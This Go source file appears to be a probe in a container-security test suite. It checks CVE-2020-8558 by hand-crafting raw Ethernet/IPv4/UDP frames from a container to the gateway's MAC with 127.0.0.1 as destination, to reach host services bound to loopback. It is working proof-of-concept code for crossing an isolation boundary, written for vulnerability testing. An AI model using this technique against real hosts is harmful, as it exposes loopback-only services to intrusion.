// Command localnet is the probe of 05-network/localnet: can a container
// reach a service of the host bound to 127.0.0.1 (CVE-2020-8558)? The
// kernel never routes 127.0.0.1 off a machine's loopback, but a frame
// written by hand can carry it: to the gateway's MAC address, with
// 127.0.0.1 as its destination. A host that accepts it (route_localnet on
// the bridge) delivers it to whatever listens on 127.0.0.1.
//
//	localnet listen ADDR STOP       on the host: print each datagram to ADDR
//	                                until one says STOP (or a minute has
//	                                passed)
//	localnet send ADDR MESSAGE      send MESSAGE to ADDR, the ordinary way
//	localnet raw DST:PORT MESSAGE   in a container: send MESSAGE to
//	                                DST:PORT (an address, or "gateway")
//	                                as a raw frame through eth0 to the
//	                                gateway's MAC address (three times)
package main

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 4 {
		fail("usage: localnet listen ADDR STOP | send ADDR MESSAGE | raw DST:PORT MESSAGE")
	}
	var err error
	switch os.Args[1] {
	case "listen":
		err = listen(os.Args[2], os.Args[3])
	case "send":
		err = send(os.Args[2], os.Args[3])
	case "raw":
		err = sendRaw(os.Args[2], os.Args[3])
	default:
		err = fmt.Errorf("unknown mode %q", os.Args[1])
	}
	if err != nil {
		fail(err.Error())
	}
}

func fail(msg string) {
	fmt.Fprintln(os.Stderr, "localnet:", msg)
	os.Exit(1)
}

// listen prints what comes until the stop word does: the scenario sends it
// last, so however slow the machine, nothing sent before is missed.
func listen(addr, stop string) error {
	c, err := net.ListenPacket("udp", addr)
	if err != nil {
		return err
	}
	defer c.Close()
	fmt.Println("listening")
	c.SetReadDeadline(time.Now().Add(time.Minute))
	buf := make([]byte, 1500)
	for {
		n, from, err := c.ReadFrom(buf)
		if err != nil {
			return fmt.Errorf("no %q came: %w", stop, err)
		}
		if string(buf[:n]) == stop {
			return nil
		}
		fmt.Printf("got %q from %s\n", buf[:n], from)
	}
}

func send(addr, msg string) error {
	c, err := net.Dial("udp", addr)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write([]byte(msg))
	return err
}

// sendRaw writes an IPv4 UDP datagram for dst:port into an Ethernet frame
// for the gateway's MAC address, and sends it on eth0.
func sendRaw(addr, msg string) error {
	host, portArg, err := net.SplitHostPort(addr)
	if err != nil {
		return err
	}
	port, err := strconv.Atoi(portArg)
	if err != nil {
		return err
	}
	eth, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	src, err := firstIPv4(eth)
	if err != nil {
		return err
	}
	gw, err := gateway()
	if err != nil {
		return err
	}
	mac, err := neighbour(gw)
	if err != nil {
		return err
	}
	frame := append(append(append([]byte{}, mac...), eth.HardwareAddr...), 0x08, 0x00)
	dst := gw
	if host != "gateway" {
		if dst = net.ParseIP(host).To4(); dst == nil {
			return fmt.Errorf("%q is not an IPv4 address", host)
		}
	}
	frame = append(frame, ipv4UDP(src, dst, port, []byte(msg))...)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Ifindex: eth.Index, Halen: 6, Protocol: htons(unix.ETH_P_IP)}
	copy(to.Addr[:], mac)
	for range 3 {
		if err := unix.Sendto(fd, frame, 0, to); err != nil {
			return fmt.Errorf("send the frame: %w", err)
		}
		time.Sleep(50 * time.Millisecond)
	}
	return nil
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func firstIPv4(ifc *net.Interface) (net.IP, error) {
	addrs, err := ifc.Addrs()
	if err != nil {
		return nil, err
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
			return n.IP.To4(), nil
		}
	}
	return nil, fmt.Errorf("eth0 has no IPv4 address")
}

// gateway is the default route's gateway, from /proc/net/route.
func gateway() (net.IP, error) {
	f, err := os.Open("/proc/net/route")
	if err != nil {
		return nil, err
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) > 2 && fields[1] == "00000000" {
			v, err := strconv.ParseUint(fields[2], 16, 32)
			if err != nil {
				return nil, err
			}
			ip := make(net.IP, 4)
			binary.LittleEndian.PutUint32(ip, uint32(v))
			return ip, nil
		}
	}
	return nil, fmt.Errorf("no default route")
}

// neighbour finds ip's MAC address in the ARP table, after a datagram to
// it has made the kernel ask.
func neighbour(ip net.IP) (net.HardwareAddr, error) {
	send(net.JoinHostPort(ip.String(), "9"), "arp")
	for try := 0; try < 50; try++ {
		data, err := os.ReadFile("/proc/net/arp")
		if err != nil {
			return nil, err
		}
		for _, line := range strings.Split(string(data), "\n") {
			f := strings.Fields(line)
			if len(f) >= 4 && f[0] == ip.String() && f[3] != "00:00:00:00:00:00" {
				return net.ParseMAC(f[3])
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	return nil, fmt.Errorf("no MAC address for %s", ip)
}

// ipv4UDP is an IPv4 header and a UDP datagram (its checksum left 0,
// which IPv4 allows).
func ipv4UDP(src, dst net.IP, port int, payload []byte) []byte {
	udp := make([]byte, 8+len(payload))
	binary.BigEndian.PutUint16(udp[0:], 40000)
	binary.BigEndian.PutUint16(udp[2:], uint16(port))
	binary.BigEndian.PutUint16(udp[4:], uint16(len(udp)))
	copy(udp[8:], payload)
	ip := make([]byte, 20)
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(udp)))
	ip[8] = 64 // TTL
	ip[9] = unix.IPPROTO_UDP
	copy(ip[12:], src)
	copy(ip[16:], dst)
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(ip[i:]))
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(ip[10:], ^uint16(sum))
	return append(ip, udp...)
}
